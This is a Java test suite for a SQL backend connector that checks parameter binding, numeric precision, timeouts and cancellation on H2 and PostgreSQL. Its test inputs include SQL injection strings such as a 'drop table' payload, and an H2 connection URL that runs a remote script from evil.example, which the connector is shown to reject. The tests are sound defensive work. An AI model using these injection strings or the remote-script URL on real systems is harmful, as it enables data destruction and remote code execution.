package org.sallyport.connector.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicLong;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sallyport.catalog.BackendDefinition;
import org.sallyport.catalog.BackendStatus;
import org.sallyport.catalog.ToolDefinition;
import org.sallyport.connector.BackendConnection;
import org.sallyport.connector.BackendSettings;
import org.sallyport.connector.InvalidBackendException;
import org.sallyport.connector.VaultFixtures;
import org.sallyport.store.jpa.SharedPostgreSql;
import org.sallyport.tool.CallId;
import org.sallyport.tool.Json;
import org.sallyport.tool.ToolErrorCode;
import org.sallyport.tool.ToolHints;
import org.sallyport.tool.ToolResult;

/** SQL statements on H2 and PostgreSQL. */
class SqlBackendTest {
    private static final String H2_NUMBERS = "select cast(9007199254740993 as bigint) as id,"
            + " cast(12345678901234567.10 as numeric(30, 2)) as price, cast(0.1 as double precision) as part,"
            + " '{\\\"n\\\":12345678901234567890.5,\\\"d\\\":0.1234567890123456789}' format json as doc,"
            + " array[9007199254740993] as list";
    private static final String POSTGRESQL_NUMBERS = "select cast(9007199254740993 as bigint) as id,"
            + " cast(12345678901234567.10 as numeric(30, 2)) as price, cast(0.1 as double precision) as part,"
            + " cast('{\\\"n\\\":12345678901234567890.5,\\\"d\\\":0.1234567890123456789}' as json) as doc,"
            + " array[9007199254740993] as list, array[[1, 2], [3, 4]] as grid,"
            + " cast('12345678901234567.89' as money) as sum, cast(null as money) as nothing";

    private static String postgreSqlUrl = "";
    private final ExecutorService executor = Executors.newCachedThreadPool();
    private final AtomicLong calls = new AtomicLong();
    private final CompletableFuture<List<ToolDefinition>> tools = new CompletableFuture<>();
    private final CompletableFuture<BackendStatus.BackendState> state = new CompletableFuture<>();
    private @Nullable BackendConnection backend;
    private String url = "";

    @BeforeAll
    static void createDatabase() {
        postgreSqlUrl = SharedPostgreSql.createDatabase() + "?user=" + SharedPostgreSql.USER;
    }

    @AfterEach
    void end() {
        if (backend != null) {
            backend.close();
        }
        executor.shutdown();
    }

    private static BackendDefinition definition(String settings, BackendDefinition.BackendOrigin origin) {
        return new BackendDefinition("db", "sql", new Json(settings), true, origin, "1");
    }

    private SqlBackendType kind() {
        return new SqlBackendType(executor, VaultFixtures.NO_SECRETS);
    }

    private void open(String database) throws SQLException, InterruptedException, ExecutionException, TimeoutException {
        open(database, 2_000);
    }

    private void open(String database, int timeoutMillis)
            throws SQLException, InterruptedException, ExecutionException, TimeoutException {
        url = database.equals("h2") ? "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1" : postgreSqlUrl;
        try (Connection connection = DriverManager.getConnection(url);
                Statement statement = connection.createStatement()) {
            statement.execute("drop table if exists pet");
            statement.execute("create table pet (id integer primary key, name varchar(40) unique, fee numeric(10,2),"
                    + " born date, seen timestamp(3) with time zone, tame boolean)");
            statement.execute(
                    "insert into pet values (1, 'Rex', 1.50, '2020-02-29', '2026-01-01 10:00:00.5+02', true)");
            statement.execute("insert into pet (id, name) values (2, 'Bo')");
        }
        BackendDefinition definition = definition(
                """
                {"url":"%s","timeoutMillis":%d,"maxRows":50,"sendCallId":true,"statements":{
                  "find":{"sql":"select * from pet where name = :name or born > cast(:since as date) order by id -- \
                :not one",
                    "parameters":{"since":{"type":"string"}}},
                  "rename":{"sql":"update pet set name = :name where id = :id;","writes":true,"idempotent":true},
                  "adopt":{"sql":"insert into pet (id, name) select cast(:id as integer), cast(:callId as varchar) \
                where not exists (select 1 from pet where name = :callId)","writes":true,"idempotent":true},
                  "sneaky":{"sql":"update pet set name = 'gone ?; :x' where id = 1"},
                  "numbers":{"sql":"%s"},
                  "names":{"sql":"select 1 as id, 2 as id, 3 as id_2, 4 as id"},
                  "number":{"sql":"select cast(:n as numeric(40, 9)) as n","parameters":{"n":{"type":"number"}}},
                  "slow":{"sql":"%s"},
                  "slow_write":{"sql":"%s","writes":true},
                  "slow_block":{"sql":"do $$ begin perform pg_sleep(60); end $$","writes":true},
                  "many":{"sql":"%s"}}}
                """.formatted(
                                url,
                                timeoutMillis,
                                database.equals("h2") ? H2_NUMBERS : POSTGRESQL_NUMBERS,
                                database.equals("h2")
                                        ? "select count(*) from system_range(1, 1000000) a, system_range(1, 1000000) b"
                                        : "select pg_sleep(30)::text",
                                database.equals("h2")
                                        ? "update pet set name = 'gone' where id = 1 and (select count(*) from"
                                                + " system_range(1, 1000000) a, system_range(1, 1000000) b) > 0"
                                        : "update pet set name = 'gone' where id = 1 and pg_sleep(60)::text = ''",
                                database.equals("h2")
                                        ? "select x from system_range(1, 51)"
                                        : "select x from generate_series(1, 51) x"),
                BackendDefinition.BackendOrigin.FILE);
        kind().check(BackendSettings.of(definition));
        BackendConnection opened = kind().open(definition, new BackendConnection.ConnectionListener() {
            @Override
            public void onStateChanged(BackendStatus.BackendState now, Optional<String> error) {
                // The first health check may fail on a busy database; the backend checks again.
                if (now == BackendStatus.BackendState.READY) {
                    state.complete(now);
                }
            }

            @Override
            public void onToolsDeclared(List<ToolDefinition> declared) {
                tools.complete(declared);
            }
        });
        backend = opened;
        opened.start();
        assertThat(state.get(60, TimeUnit.SECONDS)).isEqualTo(BackendStatus.BackendState.READY);
    }

    private ToolResult call(String tool, String arguments) {
        return call(new CallId("e", calls.incrementAndGet()), tool, arguments);
    }

    private ToolResult call(CallId id, String tool, String arguments) {
        try {
            return Objects.requireNonNull(backend)
                    .call(new BackendConnection.BackendRequest(
                            id, tool, new Json(arguments), false, "default", Instant.MAX))
                    .toCompletableFuture()
                    .get(60, TimeUnit.SECONDS);
        } catch (InterruptedException | ExecutionException | TimeoutException e) {
            throw new AssertionError(e);
        }
    }

    private String value(String tool, String arguments) {
        ToolResult result = call(tool, arguments);
        if (result instanceof ToolResult.ToolSuccess success) {
            return success.value().text();
        }
        throw new AssertionError(result);
    }

    private ToolErrorCode code(String tool, String arguments) {
        ToolResult result = call(tool, arguments);
        if (result instanceof ToolResult.ToolFailure failure) {
            return failure.error().code();
        }
        throw new AssertionError(result);
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void statementsReadAndWriteWithBoundArguments(String database) throws Exception {
        open(database);
        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}").toLowerCase(java.util.Locale.ROOT))
                .isEqualTo("[{\"id\":1,\"name\":\"rex\",\"fee\":1.50,\"born\":\"2020-02-29\","
                        + "\"seen\":\"2026-01-01t08:00:00.500z\",\"tame\":true}]");
        assertThat(value("find", "{\"name\":\"x' or 'a'='a\",\"since\":\"2026-01-01\"}"))
                .isEqualTo("[]");
        assertThat(value("rename", "{\"id\":2,\"name\":\"'; drop table pet; --\"}"))
                .isEqualTo("{\"updated\":1}");
        assertThat(value("find", "{\"name\":\"'; drop table pet; --\",\"since\":null}"))
                .contains("drop table");
        ToolResult twice = call("rename", "{\"id\":2,\"name\":\"Rex\"}");
        assertThat(twice).asString().contains("TOOL_FAILED", "23505");
        assertThat(tools.join())
                .filteredOn(tool -> tool.name().equals("find"))
                .singleElement()
                .satisfies(tool -> {
                    assertThat(tool.hints()).isEqualTo(ToolHints.READ_ONLY);
                    assertThat(tool.inputSchema().text())
                            .contains("\"since\":{\"type\":\"string\"}", "\"required\":[\"name\",\"since\"]");
                });
        assertThat(tools.join())
                .filteredOn(tool -> tool.name().equals("rename"))
                .singleElement()
                .satisfies(tool -> assertThat(tool.hints()).isEqualTo(ToolHints.IDEMPOTENT));
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void callThatIsSentAgainIsRecognizedByItsId(String database) throws Exception {
        open(database);
        CallId id = new CallId("e", calls.incrementAndGet());
        assertThat(call(id, "adopt", "{\"id\":7}")).isEqualTo(ToolResult.success(new Json("{\"updated\":1}")));
        assertThat(call(id, "adopt", "{\"id\":8,\"callId\":\"another\"}"))
                .isEqualTo(ToolResult.success(new Json("{\"updated\":0}")));
        assertThat(value("find", "{\"name\":\"" + id + "\",\"since\":null}")).contains("\"" + id + "\"");
        assertThat(tools.join())
                .filteredOn(tool -> tool.name().equals("adopt"))
                .singleElement()
                .satisfies(tool ->
                        assertThat(tool.inputSchema().text()).contains("\"id\"").doesNotContain("callId"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "{\"sql\":\"select :id\"} | settings.sendCallId",
                "{\"sql\":\"select :callId\",\"parameters\":{\"callId\":{}}} | settings.statements.a.parameters.callId",
                "{\"sql\":\"select :callId\",\"inputSchema\":{\"properties\":{\"callId\":{}}}}"
                        + " | settings.statements.a.inputSchema.properties.callId",
            })
    void callIdIsAnArgumentUnlessItIsSent(String statement, String member) {
        String settings = "{\"url\":\"jdbc:h2:mem:x\",\"statements\":{\"a\":" + statement + "}";
        assertThatThrownBy(() -> check(settings + ",\"sendCallId\":true}"))
                .isInstanceOfSatisfying(
                        InvalidBackendException.class,
                        e -> assertThat(e.member()).isEqualTo(member));
        check(settings + "}");
    }

    private void check(String settings) {
        kind().check(BackendSettings.of(definition(settings, BackendDefinition.BackendOrigin.FILE)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void numbersKeepTheirDigits(String database) throws Exception {
        open(database);
        String numbers = "\"id\":9007199254740993,\"price\":12345678901234567.10,\"part\":0.1,"
                + "\"doc\":{\"n\":12345678901234567890.5,\"d\":0.1234567890123456789},\"list\":[9007199254740993]";
        String more = ",\"grid\":[[1,2],[3,4]],\"sum\":\"$12,345,678,901,234,567.89\",\"nothing\":null";
        assertThat(value("numbers", "{}").toLowerCase(Locale.ROOT))
                .isEqualTo("[{" + numbers + (database.equals("h2") ? "" : more) + "}]");
        assertThat(value("number", "{\"n\":12345678901234567890123456789.123456789}"))
                .contains(":12345678901234567890123456789.123456789}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void columnsOfOneNameKeepTheirValues(String database) throws Exception {
        open(database);
        assertThat(value("names", "{}").toLowerCase(Locale.ROOT))
                .isEqualTo("[{\"id\":1,\"id_3\":2,\"id_2\":3,\"id_4\":4}]");
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void readOnlyStatementCannotWrite(String database) throws Exception {
        open(database);
        call("sneaky", "{}");
        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}")).contains("Rex");
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void slowOrLargeStatementIsAborted(String database) throws Exception {
        open(database);
        assertThat(code("slow", "{}")).isEqualTo(ToolErrorCode.TIMEOUT);
        assertThat(code("many", "{}")).isEqualTo(ToolErrorCode.TOO_LARGE);
        assertThat(value("find", "{\"name\":\"Bo\",\"since\":null}")).contains("Bo");
    }

    private CompletableFuture<ToolResult> startSlowCall(String database, CallId id, String tool) throws Exception {
        open(database, 50_000);
        CompletableFuture<ToolResult> slow = Objects.requireNonNull(backend)
                .call(new BackendConnection.BackendRequest(id, tool, Json.EMPTY_OBJECT, false, "default", Instant.MAX))
                .toCompletableFuture();
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(45);
        while (running(database) == 0) {
            assertThat(System.nanoTime()).as("it is under way").isLessThan(end);
            TimeUnit.MILLISECONDS.sleep(10);
        }
        return slow;
    }

    @ParameterizedTest
    @ValueSource(strings = {"h2", "postgresql"})
    void withdrawnStatementChangesNothing(String database) throws Exception {
        CallId id = new CallId("e", calls.incrementAndGet());
        startSlowCall(database, id, "slow_write");

        CompletionStage<Boolean> withoutEffect = Objects.requireNonNull(backend).withdraw(id);

        assertThat(withoutEffect.toCompletableFuture().get(60, TimeUnit.SECONDS))
                .isTrue();
        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}")).contains("Rex");
        assertThat(Objects.requireNonNull(backend)
                        .withdraw(id)
                        .toCompletableFuture()
                        .join())
                .as("its outcome is not known any more")
                .isFalse();
    }

    /** The statement may commit by itself, so that its transaction does not tell whether it had an effect. */
    @Test
    void withdrawnBlockMayHaveChangedSomething() throws Exception {
        CallId id = new CallId("e", calls.incrementAndGet());
        CompletableFuture<ToolResult> slow = startSlowCall("postgresql", id, "slow_block");

        CompletionStage<Boolean> withoutEffect = Objects.requireNonNull(backend).withdraw(id);

        assertThat(withoutEffect.toCompletableFuture().get(60, TimeUnit.SECONDS))
                .isFalse();
        assertThat(slow.get(60, TimeUnit.SECONDS)).asString().contains("OUTCOME_UNKNOWN", "may have had its effect");
    }

    @ParameterizedTest
    @CsvSource({"h2, slow", "h2, slow_write", "postgresql, slow", "postgresql, slow_write"})
    void cancelledCallAbortsItsStatement(String database, String tool) throws Exception {
        CallId id = new CallId("e", calls.incrementAndGet());
        CompletableFuture<ToolResult> slow = startSlowCall(database, id, tool);

        Objects.requireNonNull(backend).cancel(id);

        assertThat(slow.get(60, TimeUnit.SECONDS)).asString().contains("CANCELLED", "changed nothing");
        assertThat(running(database)).isZero();
        assertThat(value("find", "{\"name\":\"Rex\",\"since\":null}")).contains("Rex");
    }

    /** Number of long-running statements that the database is executing. */
    private int running(String database) throws SQLException {
        try (Connection connection = DriverManager.getConnection(url);
                Statement statement = connection.createStatement();
                ResultSet row = statement.executeQuery(
                        database.equals("h2")
                                ? "select count(*) from information_schema.sessions where session_id <> session_id()"
                                        + " and executing_statement like '%system_range%'"
                                : "select count(*) from pg_stat_activity where state = 'active' and pid <> "
                                        + "pg_backend_pid()"
                                        + " and query like '%pg_sleep%'")) {
            row.next();
            return row.getInt(1);
        }
    }

    @Test
    void databaseCannotBeConfiguredOverTheApi() {
        BackendDefinition sent = definition(
                "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM "
                        + "'http://evil.example/'\",\"statements\":{\"a\":{\"sql\":\"select 1\"}}}",
                BackendDefinition.BackendOrigin.API);
        assertThatThrownBy(() -> kind().check(BackendSettings.of(sent)))
                .isInstanceOf(InvalidBackendException.class)
                .hasMessageContaining("only in the installation's backends file");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "select :a, ':b', \":c\", d::text -- :e § select ?, ':b', \":c\", d::text -- :e § a",
                "select /* :x */ 'it''s :y' || :a || :b || :a; § select /* :x */ 'it''s :y' || ? || ? || ? § a,b,a",
                "select $$ :x ; ? $$, $t$ :y $$ $t$, :z § select $$ :x ; ? $$, $t$ :y $$ $t$, ? § z",
            })
    void onlyNamedParametersAreBound(String written, String sql, String parameters) {
        assertThat(NamedParameterStatement.parse(written))
                .contains(new NamedParameterStatement.ParsedStatement(sql, List.of(parameters.split(",", -1))));
    }

    @ParameterizedTest
    @ValueSource(strings = {"select 1; drop table pet", "select * from pet where id = ?"})
    void multipleStatementsAndUnnamedParametersAreRefused(String written) {
        assertThat(NamedParameterStatement.parse(written)).isEmpty();
    }
}
